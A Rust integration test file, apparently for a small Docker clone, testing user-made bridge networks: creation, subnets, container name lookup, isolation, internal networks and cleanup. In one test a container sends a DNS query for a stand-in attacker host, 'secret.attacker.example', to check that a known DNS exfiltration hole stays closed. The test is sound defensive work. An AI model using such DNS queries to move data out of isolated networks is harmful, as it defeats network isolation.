//! Day 14: networks that somebody has made, and how containers find each other there.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::collections::BTreeSet;
use std::fs::{self, File};
use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpListener, TcpStream, UdpSocket};
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::Duration;

use assert_cmd::assert::Assert;
use common::outside::{Outside, sh};
use common::{
    HostFile, World, alive, binary, busybox, held_between_two_lives, pid, rootfs, said, supervisor, until,
};
use nix::sched::{CloneFlags, setns};
use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;
use predicates::prelude::*;
use predicates::str::contains;
use serde_json::Value;

const FOREVER: &str = "sleep 100000";

/// Nobody is called so.
const NOBODY: [Ipv4Addr; 0] = [];

/// `network` with `words`, which must succeed: what it prints.
fn network(world: &World, words: &[&str]) -> String {
    let output = world.tiny_docker([&["network"], words].concat()).output().unwrap();
    assert!(output.status.success(), "network {words:?}: {}", said(&output));
    String::from_utf8(output.stdout).unwrap()
}

/// What it says when it fails, as it must.
fn refused(world: &World, words: &[&str]) -> String {
    let output = world.tiny_docker([&["network"], words].concat()).output().unwrap();
    assert_eq!(output.status.code(), Some(1), "network {words:?}: {}", said(&output));
    String::from_utf8(output.stderr).unwrap()
}

fn run(world: &World, flags: &[&str], script: &str) -> Assert {
    let rootfs = busybox();
    let words = [&["run", "--rootfs", rootfs.to_str().unwrap()], flags, &["sh", "-c", script]].concat();
    world.tiny_docker(words).assert()
}

/// What `network inspect` says of one.
fn inspect(world: &World, name: &str) -> Value {
    let all: Value = serde_json::from_str(&network(world, &["inspect", name])).unwrap();
    all[0].clone()
}

/// The address of a container on the network `name`.
fn address_on(world: &World, name: &str, id: &str) -> Ipv4Addr {
    let shown = inspect(world, name);
    let text = shown["Containers"][id]["IPv4Address"].as_str();
    let text = text.unwrap_or_else(|| panic!("{id} is not on {name}: {shown:#}"));
    text.split_once('/').unwrap().0.parse().unwrap()
}

/// Does `work` in the network namespace of a process. (A thread may be in another one than its
/// process.)
fn inside<T: Send + 'static>(pid: Pid, work: impl FnOnce() -> T + Send + 'static) -> T {
    let namespace = File::open(format!("/proc/{pid}/ns/net")).unwrap();
    let thread = thread::spawn(move || {
        setns(namespace, CloneFlags::CLONE_NEWNET).unwrap();
        work()
    });
    thread.join().unwrap()
}

/// A question for a name, as it travels. (RFC 1035, section 4)
fn question(name: &str, kind: u8) -> Vec<u8> {
    let mut message = vec![0xab, 0xcd, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        message.push(label.len() as u8);
        message.extend(label.bytes());
    }
    message.extend([0, 0, kind, 0, 1]);
    message
}

/// What a name server says: a code, and the data of its records.
#[derive(Debug, PartialEq)]
struct Answer {
    code: u8,
    data: Vec<Vec<u8>>,
}

impl Answer {
    fn read(question: &[u8], answer: &[u8]) -> Answer {
        assert_eq!(answer[..2], question[..2], "the number of the answer");
        let (mut at, mut data) = (question.len(), vec![]);
        for _ in 0..u16::from_be_bytes([answer[6], answer[7]]) {
            let length = usize::from(u16::from_be_bytes([answer[at + 10], answer[at + 11]]));
            data.push(answer[at + 12..at + 12 + length].to_vec());
            at += 12 + length;
        }
        Answer { code: answer[3] & 0xf, data }
    }

    fn addresses(&self) -> Vec<Ipv4Addr> {
        let four = self.data.iter().filter_map(|data| <[u8; 4]>::try_from(&data[..]).ok());
        let mut all: Vec<Ipv4Addr> = four.map(Ipv4Addr::from).collect();
        all.sort();
        all
    }
}

const A: u8 = 1;
const PTR: u8 = 12;
const AAAA: u8 = 28;
const NO_SUCH_NAME: u8 = 3;

/// Asks the name server of the container `id`, as a program in it would.
fn ask(world: &World, id: &str, name: &str, kind: u8) -> Answer {
    let message = question(name, kind);
    inside(pid(world, id), move || {
        let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
        // No answer takes so long, also on a busy machine.
        socket.set_read_timeout(Some(common::deadline() / 4)).unwrap();
        socket.send_to(&message, "127.0.0.11:53").unwrap();
        let mut answer = [0; 4096];
        let (length, from) = socket.recv_from(&mut answer).expect("an answer of the container's name server");
        assert_eq!(from.to_string(), "127.0.0.11:53", "who answers");
        Answer::read(&message, &answer[..length])
    })
}

/// The addresses that the container `id` gets for `name`.
fn found(world: &World, id: &str, name: &str) -> Vec<Ipv4Addr> {
    ask(world, id, name, A).addresses()
}

/// Whether the container `id` reaches `address`, by a packet that must come back.
fn reaches(world: &World, id: &str, address: Ipv4Addr) -> bool {
    let busybox = busybox().join("bin/busybox");
    inside(pid(world, id), move || {
        // Where nothing comes back, one second tells as much as ten.
        let mut ping = Command::new(busybox);
        ping.args(["ping", "-c", "3", "-i", "0.2", "-W", "1", &address.to_string()]);
        ping.output().unwrap().status.success()
    })
}

/// The bridges and rules of networks that somebody has made.
fn left_of_networks() -> String {
    sh("ip -o link show type bridge | grep -o ' td-[0-9a-f]*' | sort; nft list tables | grep 'tiny-docker-td-'; true").unwrap()
}

#[test]
#[ignore = "privileged: make vm-test"]
fn task5_a_network_is_made_listed_shown_and_removed() {
    let world = World::new();
    let id = network(&world, &["create", "--label", "stage=test", "--label", "empty", "web"]);
    let id = id.trim_end();
    assert!(id.len() == 12 && id.bytes().all(|byte| byte.is_ascii_hexdigit()), "its id: {id:?}");
    let list = network(&world, &["ls"]);
    let mut lines = list.lines();
    assert_eq!(lines.next(), Some("NETWORK ID     NAME     DRIVER   SCOPE"), "{list}");
    assert_eq!(lines.next_back(), Some(format!("{id}   web      bridge   local").as_str()), "{list}");
    assert_eq!(network(&world, &["ls", "-q"]), format!("{id}\n"));

    let shown = inspect(&world, &id[..5]);
    assert_eq!((shown["Name"].as_str(), shown["Id"].as_str()), (Some("web"), Some(id)), "{shown:#}");
    assert_eq!(shown["IPAM"]["Config"][0]["Subnet"], "172.18.0.0/16", "{shown:#}");
    assert_eq!(shown["IPAM"]["Config"][0]["Gateway"], "172.18.0.1", "{shown:#}");
    assert_eq!(shown["Labels"], serde_json::json!({ "stage": "test", "empty": "" }));
    let bridge = shown["Options"]["com.docker.network.bridge.name"].as_str().unwrap();
    let addresses = sh(&format!("ip -o -4 addr show {bridge}")).unwrap();
    assert!(addresses.contains("172.18.0.1/16"), "the bridge's address: {addresses}");

    assert!(refused(&world, &["create", "web"]).contains("web already"));
    for name in ["bridge", "host", "none", "../web", "-web", ""] {
        let said = refused(&world, &["create", "--", name]);
        assert!(said.contains("choose another") || said.contains("such as backend"), "{name:?}: {said}");
    }
    assert_eq!(network(&world, &["rm", "web"]), "web\n");
    assert!(refused(&world, &["rm", "web"]).contains("no such network"));
    assert!(refused(&world, &["inspect", "web"]).contains("network ls"));
    assert!(refused(&world, &["rm", "host"]).contains("always there"));
    assert_eq!(left_of_networks(), "");
    assert_eq!(network(&world, &["ls", "-q"]), "");
}

/// A network of the host's own, which has a part of what would be the first subnet.
struct Lan;

impl Lan {
    fn new() -> Lan {
        sh("ip link add lan0 type bridge && ip addr add 172.18.5.1/24 dev lan0 && ip link set lan0 up")
            .unwrap();
        Lan
    }
}

impl Drop for Lan {
    fn drop(&mut self) {
        let _ = sh("ip link del lan0");
    }
}

#[test]
#[ignore = "privileged: make vm-test"]
fn task5_a_subnet_is_one_that_nobody_has() {
    let world = World::new();
    let subnet = |name: &str| inspect(&world, name)["IPAM"]["Config"][0].clone();
    let lan = Lan::new();
    network(&world, &["create", "one"]);
    let by_host = refused(&world, &["create", "--subnet", "172.18.0.0/20", "two"]);
    drop(lan);
    network(&world, &["create", "two"]);
    network(&world, &["create", "--subnet", "10.77.0.0/24", "--gateway", "10.77.0.254", "own"]);
    let others = [
        (vec!["--subnet", "10.77.0.128/25"], "the network own has 10.77.0.0/24"),
        (vec!["--subnet", "10.10.0.0/16"], "the default network"),
        (vec!["--subnet", "10.78.0.0/8"], "such as 10.20.0.0/24"),
        (vec!["--subnet", "10.78.0.0/24", "--gateway", "10.79.0.1"], "--gateway 10.79.0.1"),
        (vec!["--subnet", "10.78.0.0/24", "--gateway", "10.78.0.255"], "--gateway 10.78.0.255"),
        (vec!["--gateway", "10.78.0.1"], "add --subnet"),
        (vec!["--driver", "overlay"], "expected bridge"),
        (vec!["--label", "=x"], "NAME=VALUE"),
    ];
    for (flags, words) in others {
        let said = refused(&world, &[&["create"][..], &flags, &["other"]].concat());
        assert!(said.contains(words), "{flags:?}: {said}");
    }
    let first = run(&world, &["--net", "own"], "ip -o -4 addr show eth0; ip route show default");
    let subnets = [subnet("one"), subnet("two"), subnet("own")];
    for name in ["one", "two", "own"] {
        network(&world, &["rm", name]);
    }
    assert!(by_host.contains("the host (by lan0) has 172.18.5.0/24"), "{by_host}");
    assert_eq!(subnets[0]["Subnet"], "172.19.0.0/16", "where the host has a part of 172.18.0.0/16");
    assert_eq!(subnets[1]["Subnet"], "172.18.0.0/16");
    assert_eq!(subnets[2]["Gateway"], "10.77.0.254");
    first.success().stdout(contains("10.77.0.1/24").and(contains("default via 10.77.0.254")));
    assert_eq!(left_of_networks(), "");
}

#[test]
#[ignore = "privileged: make vm-test"]
fn task5_containers_find_each_other_by_name_and_alias() {
    let world = World::new();
    network(&world, &["create", "web"]);
    let db = world.detach(&["--name", "db", "--net", "web", "--network-alias", "store"], FOREVER);
    let two = world.detach(&["--name", "Two", "--network", "name=web,alias=store,ip=172.18.0.77"], FOREVER);
    let (first, second) = (address_on(&world, "web", &db), Ipv4Addr::new(172, 18, 0, 77));
    assert_eq!(address_on(&world, "web", &two), second);
    for name in ["db", "DB", "db.web", "Db.WEB", &db] {
        assert_eq!(found(&world, &two, name), [first], "what {name} is to the other one");
    }
    assert_eq!(found(&world, &db, "two"), [second]);
    assert_eq!(found(&world, &db, "db"), [first], "its own name");
    assert_eq!(found(&world, &db, "store"), [first, second], "an alias that two have");
    // A name that is there, and has no address of version 6: not "no such name".
    assert_eq!(ask(&world, &db, "two", AAAA), Answer { code: 0, data: vec![] });
    let reverse = ask(&world, &db, "77.0.18.172.in-addr.arpa", PTR);
    assert_eq!(reverse.data, [b"\x03Two\x03web\0".to_vec()], "whose address that is");
    // As its programs see it.
    let look = "cat /etc/resolv.conf; grep box /etc/hosts; nslookup -type=a db";
    let seen = run(&world, &["--net", "web", "--hostname", "box"], look);
    let own = Ipv4Addr::from_bits(first.to_bits() + 1);
    seen.success().stdout(
        contains("nameserver 127.0.0.11\n")
            .and(contains(format!("{own}\tbox")))
            .and(contains(format!("Address: {first}\n"))),
    );
    // Others do not find them.
    run(&world, &[], "nslookup -type=a db").stdout(contains(first.to_string()).not());
    world.remove_all();
    network(&world, &["rm", "web"]);
}

#[test]
#[ignore = "privileged: make vm-test"]
fn task5_a_name_is_true_at_the_moment_it_is_asked_for() {
    let world = World::new();
    network(&world, &["create", "web"]);
    let asker = world.detach(&["--net", "web"], FOREVER);
    assert_eq!(found(&world, &asker, "db"), NOBODY, "nobody is called so");
    for how in ["stop", "SIGKILL to its command", "SIGKILL to its supervisor", "rm -f"] {
        let db = world.detach(&["--name", "db", "--net", "web"], "exec sleep 100000");
        let address = address_on(&world, "web", &db);
        assert_eq!(found(&world, &asker, "db"), [address], "once `run -d` has returned, before: {how}");
        let command = pid(&world, &db);
        match how {
            "stop" => drop(world.tiny_docker(["stop", "-t", "0", "db"]).assert().success()),
            "rm -f" => drop(world.tiny_docker(["rm", "-f", "db"]).assert().success()),
            "SIGKILL to its command" => kill(command, Signal::SIGKILL).unwrap(),
            _ => kill(supervisor(&world, &db), Signal::SIGKILL).unwrap(),
        }
        until("its command is gone", || !alive(command));
        assert_eq!(found(&world, &asker, "db"), NOBODY, "once it is gone, by: {how}");
        let on_it = inspect(&world, "web")["Containers"].as_object().unwrap().len();
        assert_eq!(on_it, 1, "who is on the network after: {how}");
        if how != "rm -f" {
            until("nobody owns it", || world.ps().contains("Exited"));
            world.tiny_docker(["rm", "db"]).assert().success();
        }
    }
    world.remove_all();
    network(&world, &["rm", "web"]);
}

#[test]
#[ignore = "privileged: make vm-test"]
fn task5_networks_are_kept_apart() {
    let world = World::new();
    network(&world, &["create", "front"]);
    network(&world, &["create", "back"]);
    let a = world.detach(&["--name", "aa", "--net", "front"], FOREVER);
    let b = world.detach(&["--name", "bb", "--net", "back"], FOREVER);
    let default = world.detach(&["--name", "cc"], FOREVER);
    let both = world.detach(&["--name", "both", "--net", "front", "--net", "back"], FOREVER);
    let on = |network: &str, id: &str| address_on(&world, network, id);
    let c: Ipv4Addr = world.inspect(&default)["address"].as_str().unwrap().parse().unwrap();
    assert!(
        reaches(&world, &a, on("front", &both)) && reaches(&world, &b, on("back", &both)),
        "in one network"
    );
    assert!(reaches(&world, &both, on("front", &a)) && reaches(&world, &both, on("back", &b)), "of two");
    for (from, who, to, whom) in [
        (&a, "aa", on("back", &b), "bb"),
        (&a, "aa", on("back", &both), "the other end of both"),
        (&b, "bb", on("front", &a), "aa"),
        (&a, "aa", c, "the default network"),
        (&default, "the default network", on("front", &a), "aa"),
    ] {
        assert!(!reaches(&world, from, to), "{who} reaches {whom} by {to}");
    }
    // Root in aa could send both what is for bb. The kernel says what both would do with it.
    let passes_on = format!("ip route get {} from {} iif eth0", on("back", &b), on("front", &a));
    let route = inside(pid(&world, &both), move || sh(&passes_on));
    assert!(route.is_err(), "both is a router between its networks: {route:?}");
    assert_eq!(found(&world, &a, "bb"), NOBODY, "the name of one on another network");
    assert_eq!(found(&world, &both, "aa"), [on("front", &a)]);
    assert_eq!(found(&world, &both, "bb"), [on("back", &b)]);
    assert_eq!(found(&world, &both, "both"), [on("front", &both)], "the first network decides");
    assert_eq!(found(&world, &both, "both.back"), [on("back", &both)]);
    let links = inside(pid(&world, &both), || sh("ip -o -4 addr; ip route show default").unwrap());
    assert!(links.contains("eth0") && links.contains("eth1"), "{links}");
    assert_eq!(links.matches("default via").count(), 1, "{links}");
    world.remove_all();
    network(&world, &["rm", "front", "back"]);
    assert_eq!(left_of_networks(), "");
}

/// A name server of the host's, which knows every name: it has the address 192.0.2.9. It hears
/// on `address`, until it is dropped.
struct NameServer {
    stopped: Arc<AtomicBool>,
    threads: Vec<thread::JoinHandle<()>>,
}

impl NameServer {
    fn on(address: &'static str) -> NameServer {
        let stopped = Arc::new(AtomicBool::new(false));
        let answer = |question: &[u8], flags: u8| {
            let mut answer = question.to_vec();
            (answer[2], answer[3], answer[7]) = (0x80 | flags, 0x80, 1);
            answer.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 192, 0, 2, 9]);
            answer
        };
        let udp = UdpSocket::bind((address, 53)).unwrap();
        let tcp = TcpListener::bind((address, 53)).unwrap();
        udp.set_read_timeout(Some(Duration::from_millis(10))).unwrap();
        tcp.set_nonblocking(true).unwrap();
        let (stop, stop_too) = (stopped.clone(), stopped.clone());
        let over_udp = thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) {
                let mut message = [0; 512];
                if let Ok((length, whom)) = udp.recv_from(&mut message) {
                    udp.send_to(&answer(&message[..length], 1), whom).unwrap();
                }
            }
        });
        let over_tcp = thread::spawn(move || {
            while !stop_too.load(Ordering::Relaxed) {
                thread::sleep(Duration::from_millis(5));
                let Ok((mut stream, _)) = tcp.accept() else { continue };
                stream.set_nonblocking(false).unwrap();
                let message = read_message(&mut stream);
                let answer = answer(&message, 1);
                stream.write_all(&[&(answer.len() as u16).to_be_bytes(), &answer[..]].concat()).unwrap();
            }
        });
        NameServer { stopped, threads: vec![over_udp, over_tcp] }
    }
}

impl Drop for NameServer {
    fn drop(&mut self) {
        self.stopped.store(true, Ordering::Relaxed);
        for thread in self.threads.drain(..) {
            let _ = thread.join();
        }
    }
}

fn read_message(stream: &mut TcpStream) -> Vec<u8> {
    let mut length = [0; 2];
    stream.read_exact(&mut length).unwrap();
    let mut message = vec![0; u16::from_be_bytes(length).into()];
    stream.read_exact(&mut message).unwrap();
    message
}

#[test]
#[ignore = "privileged: make vm-test"]
fn task5_an_internal_network_leads_nowhere() {
    let world = World::new();
    let _outside = Outside::new();
    sh("ip link set lo up").unwrap();
    let host_file = world.dir().join("resolv.conf");
    fs::write(&host_file, "nameserver 127.0.0.1\n").unwrap();
    network(&world, &["create", "--internal", "closed"]);
    network(&world, &["create", "open"]);
    let _host = HostFile::replace("/etc/resolv.conf", &host_file);
    let _server = NameServer::on("127.0.0.1");
    let a = world.detach(&["--name", "aa", "--net", "closed"], FOREVER);
    let b = world.detach(&["--name", "bb", "--net", "closed"], FOREVER);
    let open = world.detach(&["--name", "cc", "--net", "closed", "--net", "open"], FOREVER);
    let out = Ipv4Addr::new(192, 0, 2, 2);
    assert!(reaches(&world, &a, address_on(&world, "closed", &b)), "one another");
    assert!(!reaches(&world, &a, out), "the world, without a route");
    assert!(reaches(&world, &open, out), "the world, by the other network");
    // Also for one that makes itself a route: it is root in its namespace.
    let gateway = inspect(&world, "closed")["IPAM"]["Config"][0]["Gateway"].as_str().unwrap().to_string();
    let way = inside(pid(&world, &a), move || sh(&format!("ip route add default via {gateway}")));
    way.expect("a route of the container's own");
    assert!(!reaches(&world, &a, out), "the world, with a route");
    // A question is a way out too. (CVE-2024-29018)
    let leak = ask(&world, &a, "secret.attacker.example", A);
    assert_eq!(leak, Answer { code: NO_SUCH_NAME, data: vec![] }, "a question that leaves");
    assert_eq!(found(&world, &a, "bb"), [address_on(&world, "closed", &b)]);
    assert_eq!(found(&world, &open, "web.example"), [Ipv4Addr::new(192, 0, 2, 9)]);
    world.remove_all();
    network(&world, &["rm", "closed", "open"]);
    assert_eq!(left_of_networks(), "");
}

#[test]
#[ignore = "privileged: make vm-test"]
fn task5_other_names_are_asked_of_the_hosts_servers() {
    let world = World::new();
    sh("ip link set lo up").unwrap();
    network(&world, &["create", "web"]);
    let host_file = world.dir().join("resolv.conf");
    // Nobody listens on the first one; the second is one of the host's own loopback, which the
    // container itself could not ask.
    fs::write(&host_file, "search corp.example\nnameserver 127.0.0.3\nnameserver 127.0.0.1\n").unwrap();
    let _host = HostFile::replace("/etc/resolv.conf", &host_file);
    let _server = NameServer::on("127.0.0.1");
    let id = world.detach(&["--name", "one", "--net", "web"], FOREVER);
    let expected = Answer { code: 0, data: vec![vec![192, 0, 2, 9]] };
    assert_eq!(ask(&world, &id, "web.example", A), expected, "over UDP");
    let over_tcp = |name: &str| {
        let message = question(name, A);
        inside(pid(&world, &id), move || {
            let mut stream = TcpStream::connect("127.0.0.11:53").unwrap();
            stream.set_read_timeout(Some(common::deadline() / 4)).unwrap();
            stream.write_all(&[&(message.len() as u16).to_be_bytes(), &message[..]].concat()).unwrap();
            Answer::read(&message, &read_message(&mut stream))
        })
    };
    assert_eq!(over_tcp("web.example"), expected, "over TCP");
    assert_eq!(over_tcp("one").addresses(), [address_on(&world, "web", &id)], "a container, over TCP");
    // --dns is asked instead.
    let other = world.detach(&["--net", "web", "--dns", "127.0.0.3"], FOREVER);
    assert_eq!(ask(&world, &other, "web.example", A).code, 2, "where nobody listens");
    let seen = run(&world, &["--net", "web"], "cat /etc/resolv.conf").success();
    seen.stdout("nameserver 127.0.0.11\nsearch corp.example\noptions ndots:0\n");
    world.remove_all();
    network(&world, &["rm", "web"]);
}

#[test]
#[ignore = "privileged: make vm-test"]
fn task5_the_name_server_survives_what_a_container_sends_and_leaves_it_port_53() {
    let world = World::new();
    network(&world, &["create", "web"]);
    let id = world.detach(&["--name", "one", "--net", "web"], FOREVER);
    let address = address_on(&world, "web", &id);
    inside(pid(&world, &id), || {
        let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
        let good = question("one", A);
        for length in 0..good.len() {
            socket.send_to(&good[..length], "127.0.0.11:53").unwrap();
        }
        for byte in 0..good.len() {
            for value in [0, 63, 64, 0xc0, 0xff] {
                let mut bad = good.clone();
                bad[byte] = value;
                socket.send_to(&bad, "127.0.0.11:53").unwrap();
            }
        }
        socket.send_to(&vec![0xff; 60_000], "127.0.0.11:53").unwrap();
        let mut stream = TcpStream::connect("127.0.0.11:53").unwrap();
        stream.write_all(&[0xff; 100]).unwrap();
        // A server of the container's own, on all of its addresses.
        let own = (UdpSocket::bind("0.0.0.0:53"), TcpListener::bind("0.0.0.0:53"));
        own.0.expect("port 53 of UDP is the container's");
        own.1.expect("port 53 of TCP is the container's");
    });
    assert_eq!(found(&world, &id, "one"), [address]);
    world.remove_all();
    network(&world, &["rm", "web"]);
}

#[test]
#[ignore = "privileged: make vm-test"]
fn task5_a_container_is_connected_and_disconnected_while_it_runs() {
    let world = World::new();
    for name in ["front", "back"] {
        network(&world, &["create", name]);
    }
    let server = world.detach(&["--name", "server", "--net", "front"], FOREVER);
    let db = world.detach(&["--name", "db", "--net", "back"], FOREVER);
    assert_eq!(found(&world, &server, "db"), NOBODY);
    network(&world, &["connect", "--alias", "api", "--ip", "172.19.0.50", "back", "server"]);
    let there = Ipv4Addr::new(172, 19, 0, 50);
    assert_eq!(address_on(&world, "back", &server), there);
    assert_eq!(found(&world, &server, "db"), [address_on(&world, "back", &db)]);
    assert_eq!((found(&world, &db, "server"), found(&world, &db, "api")), (vec![there], vec![there]));
    assert!(reaches(&world, &db, there) && reaches(&world, &server, address_on(&world, "back", &db)));
    let forwards =
        inside(pid(&world, &server), || fs::read_to_string("/proc/sys/net/ipv4/ip_forward").unwrap());
    assert_eq!(forwards, "0\n", "ip_forward in one that has been connected to a second network");
    assert!(refused(&world, &["connect", "back", "server"]).contains("already"));
    run(&world, &["--net", "back", "--ip", "172.19.0.50"], "true")
        .code(125)
        .stderr(contains("the container server has it"));

    // With the first one goes its route to the world; the other has one too.
    network(&world, &["disconnect", "front", "server"]);
    let routes = inside(pid(&world, &server), || sh("ip -o link; ip route").unwrap());
    assert!(routes.contains("default via 172.19.0.1 dev eth1") && !routes.contains("eth0"), "{routes}");
    assert!(refused(&world, &["disconnect", "front", "server"]).contains("not on network front"));
    network(&world, &["rm", "front"]);
    network(&world, &["disconnect", "back", "server"]);
    assert_eq!((found(&world, &db, "server"), found(&world, &db, "api")), (vec![], vec![]));
    assert!(!reaches(&world, &db, there), "by a cable that was pulled");
    run(&world, &["--net", "back", "--ip", "172.19.0.50"], "true").success();

    // From the default network: the others find it.
    let from_default = world.detach(&["--name", "old"], FOREVER);
    let said = world.tiny_docker(["network", "connect", "back", "old"]).assert().success();
    said.stderr(contains("host's name servers"));
    let old = address_on(&world, "back", &from_default);
    assert_eq!(found(&world, &db, "old"), [old]);
    assert!(reaches(&world, &db, old));
    for mode in ["host", "none"] {
        let id = world.detach(&["--net", mode], FOREVER);
        assert!(refused(&world, &["connect", "back", &id]).contains("--net NETWORK"), "--net {mode}");
    }
    world.remove_all();
    network(&world, &["rm", "back"]);
    assert_eq!(left_of_networks(), "");
}

#[test]
#[ignore = "privileged: make vm-test"]
fn task5_what_a_container_is_on_is_kept_when_it_ends() {
    let world = World::new();
    for name in ["front", "back", "third"] {
        network(&world, &["create", name]);
    }
    let kept = || {
        let record = world.inspect("one");
        let networks = record["networks"].as_array().cloned().unwrap_or_default();
        let words = networks.iter().map(|one| {
            let aliases = one["aliases"].as_array().cloned().unwrap_or_default();
            let aliases: Vec<&str> = aliases.iter().filter_map(Value::as_str).collect();
            format!("{} {}", one["network"].as_str().unwrap(), aliases.join(","))
        });
        words.collect::<Vec<_>>().join("; ")
    };
    world.detach(&["--name", "one", "--net", "name=front,alias=web"], FOREVER);
    network(&world, &["connect", "--alias", "api", "back", "one"]);
    world.tiny_docker(["stop", "-t", "0", "one"]).assert().success();
    assert_eq!(kept(), "front web; back api", "with what was connected while it ran");
    // Nothing runs, so nothing is in use; but what has been asked for stays asked for.
    network(&world, &["disconnect", "front", "one"]);
    network(&world, &["connect", "--alias", "later", "third", "one"]);
    assert_eq!(kept(), "back api; third later", "changed while it did not run");
    assert!(refused(&world, &["connect", "third", "one"]).contains("already"));
    assert!(refused(&world, &["disconnect", "front", "one"]).contains("not on network front"));
    assert_eq!(network(&world, &["prune", "-f"]), "Deleted Networks:\nfront\n");
    run(&world, &["--name", "two"], "true").success();
    assert!(refused(&world, &["connect", "third", "two"]).contains("connect it while it runs"));
    world.remove_all();
    network(&world, &["rm", "back", "third"]);
    assert_eq!(left_of_networks(), "");
}

#[test]
#[ignore = "privileged: make vm-test"]
fn task5_one_that_is_started_again_is_on_its_networks_again() {
    let world = World::new();
    network(&world, &["create", "front"]);
    network(&world, &["create", "back"]);
    let asker = world.detach(&["--net", "back"], FOREVER);
    let id = world.detach(&["--name", "one", "--net", "front"], FOREVER);
    network(&world, &["connect", "--alias", "api", "back", "one"]);
    world.tiny_docker(["stop", "-t", "0", "one"]).assert().success();
    assert_eq!(found(&world, &asker, "api"), NOBODY);
    world.tiny_docker(["start", "one"]).assert().success();
    assert_eq!(found(&world, &asker, "api"), [address_on(&world, "back", &id)], "started again");
    assert_eq!(found(&world, &id, "one"), [address_on(&world, "front", &id)], "its first network");
    world.remove_all();
    network(&world, &["rm", "front", "back"]);
    assert_eq!(left_of_networks(), "");
}

// Whoever looks after a container has its lock, and takes the network's at its start and end. A
// command that took them the other way round would wait for it, and hold up everybody else.
#[test]
#[ignore = "privileged: make vm-test"]
fn task5_between_two_lives_nothing_is_plugged_in_and_nobody_waits() {
    let world = World::new();
    network(&world, &["create", "front"]);
    network(&world, &["create", "back"]);
    run(&world, &["-d", "--name", "web", "--net", "front", "--restart", "always"], "false").success();
    let held = held_between_two_lives(&world, "web");
    for action in ["connect", "disconnect"] {
        let said = refused(&world, &[action, if action == "connect" { "back" } else { "front" }, "web"]);
        assert!(said.contains("web is about to be started again"), "{action}: {said}");
    }
    run(&world, &["--rm", "--net", "back"], "true").success();
    kill(held, Signal::SIGCONT).unwrap();
    world.tiny_docker(["stop", "web"]).assert().success();
    // Now it waits for nothing any more.
    network(&world, &["connect", "back", "web"]);
    world.remove_all();
    network(&world, &["rm", "front", "back"]);
}

#[test]
#[ignore = "privileged: make vm-test"]
fn task5_a_network_in_use_stays_and_says_by_whom() {
    let world = World::new();
    for name in ["used", "unused", "kept"] {
        network(&world, &["create", name]);
    }
    let id = world.detach(&["--net", "used"], FOREVER);
    world.detach(&["--name", "db", "--net", "used"], FOREVER);
    run(&world, &["--name", "ended", "--net", "kept"], "true").success();
    let said = refused(&world, &["rm", "used"]);
    assert!(said.contains("db") && said.contains(&id) && said.contains("disconnect"), "{said}");
    let no = world.tiny_docker(["network", "prune"]).write_stdin("n\n").assert().code(1);
    no.stderr(contains("cancelled"));
    let pruned = network(&world, &["prune", "-f"]);
    assert_eq!(pruned, "Deleted Networks:\nunused\n", "all but those that a container has");
    world.remove_all();
    assert_eq!(network(&world, &["prune", "-f"]), "Deleted Networks:\nkept\nused\n");
    assert_eq!(network(&world, &["prune", "-f"]), "");
    assert_eq!(left_of_networks(), "");
}

#[test]
#[ignore = "privileged: make vm-test"]
fn task5_what_is_wrong_with_a_network_is_said_before_anything_is_made() {
    let world = World::new();
    network(&world, &["create", "--subnet", "10.77.0.0/29", "small"]);
    for (flags, words) in [
        (vec!["--net", "nowhere"], "network create nowhere"),
        (vec!["--net", "small", "--net", "nowhere"], "network create nowhere"),
        (vec!["--net", "small", "--net", "host"], "go alone"),
        (vec!["--net", "small", "--net", "small"], "twice"),
        (vec!["--network-alias", "x"], "network create NAME"),
        (vec!["--net", "small", "--network-alias", "a b"], "such as db"),
        (vec!["--net", "small", "--ip", "10.77.0.1"], "the host's"),
        (vec!["--net", "small", "--ip", "10.78.0.2"], "10.77.0.0/29"),
    ] {
        run(&world, &flags, "true").code(125).stderr(contains(words));
    }
    for (word, words) in
        [("name=small,color=red", "expected name=NETWORK"), ("../small", "such as backend"), ("", "such as")]
    {
        // Wrong as words, whatever networks there are.
        run(&world, &["--net", word], "true")
            .code(2)
            .stderr(contains(words).and(contains("possible values")));
    }
    assert_eq!(world.ps().lines().count(), 1, "{}", world.ps());
    let ids: Vec<String> = (0..5).map(|_| world.detach(&["--net", "small"], FOREVER)).collect();
    let addresses: BTreeSet<Ipv4Addr> = ids.iter().map(|id| address_on(&world, "small", id)).collect();
    assert_eq!(addresses.len(), 5, "{addresses:?}");
    run(&world, &["--net", "small"], "true").code(125).stderr(contains("in use"));
    world.remove_all();
    // What was given back can be had again.
    run(&world, &["--net", "small", "--ip", "10.77.0.4"], "ip -4 addr show eth0")
        .success()
        .stdout(contains("10.77.0.4/29"));
    network(&world, &["rm", "small"]);
    assert_eq!(left_of_networks(), "");
}

/// The network is there, and can be removed, or it is not there: whenever the command dies.
#[test]
#[ignore = "privileged: make vm-test"]
fn task5_long_a_command_that_is_killed_leaves_a_network_or_none() {
    let world = World::new();
    let die_at = |moment: u32, words: &[&str]| {
        let mut command = world.tiny_docker([&["network"], words].concat());
        let output = command.env("TINY_DOCKER_DIE_AT", format!("parent:{moment}")).output().unwrap();
        assert_ne!(output.status.code(), Some(101), "it panics, to be killed at {moment}: {}", said(&output));
        output.status.success()
    };
    for flags in [&["create", "web"][..], &["create", "--internal", "web"]] {
        for moment in 1.. {
            let lived = die_at(moment, flags);
            let list = network(&world, &["ls", "-q"]);
            if !list.is_empty() {
                run(&world, &["--net", "web"], "true").success();
                network(&world, &["rm", "web"]);
            }
            assert_eq!(left_of_networks(), "", "{flags:?}, killed at {moment}");
            if lived {
                assert!(moment > 3, "it died {moment} times");
                break;
            }
        }
    }
    for moment in 1.. {
        network(&world, &["create", "web"]);
        let lived = die_at(moment, &["rm", "web"]);
        if !lived && !network(&world, &["ls", "-q"]).is_empty() {
            run(&world, &["--net", "web"], "true").success();
            network(&world, &["rm", "web"]);
        }
        assert_eq!(left_of_networks(), "", "rm, killed at {moment}");
        if lived {
            break;
        }
    }
    // And for a container that is connected: it can be disconnected, or connected.
